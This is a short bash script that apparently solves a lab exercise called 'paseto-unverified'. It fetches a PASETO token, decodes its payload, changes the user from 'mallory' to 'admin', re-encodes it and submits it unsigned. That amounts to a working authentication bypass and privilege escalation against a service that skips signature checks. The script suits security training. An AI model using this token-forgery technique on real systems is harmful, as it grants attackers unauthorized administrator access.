#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

body="$(curl -s "$(at paseto-unverified token)" | part 3 | unb64 | LC_ALL=C sed 's/"mallory"/"admin"/' | b64)"
send paseto-unverified "v4.public.$body"
